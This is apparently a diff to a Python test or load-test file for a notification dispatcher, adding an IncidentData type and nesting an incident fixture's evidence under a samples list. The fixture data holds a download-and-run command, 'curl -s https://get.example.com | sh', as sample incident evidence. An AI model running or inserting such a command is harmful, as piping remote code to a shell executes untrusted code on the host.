@@ -37,7 +37,7 @@ from notifiers.config import (
     WebhookReceiverConfig,
 )
 from notifiers.dispatcher import Dispatcher
-from notifiers.model import Notification
+from notifiers.model import IncidentData, Notification
 
 SLOW_SECONDS = 0.05
 EVENTS_PER_NOTIFICATION = 20
@@ -70,7 +70,7 @@ class SlowHandler(BaseHTTPRequestHandler):
 
 
 def notification(i: int, receiver: str) -> Notification:
-    incident = {
+    incident: IncidentData = {
         "id": f"inc-{i}",
         "fingerprint": f"fp-{i % 97}",
         "source": "rule",
@@ -84,7 +84,10 @@ def notification(i: int, receiver: str) -> Notification:
         "count": i,
         "escalation_level": 0,
         "labels": {},
-        "evidence": {"command": "curl -s https://get.example.com | sh", "n": i},
+        "evidence": {
+            "samples": [{"data": {"command": "curl -s https://get.example.com | sh", "n": i}}],
+            "omitted": 0,
+        },
     }
     return Notification(
         key=f"k{i}",
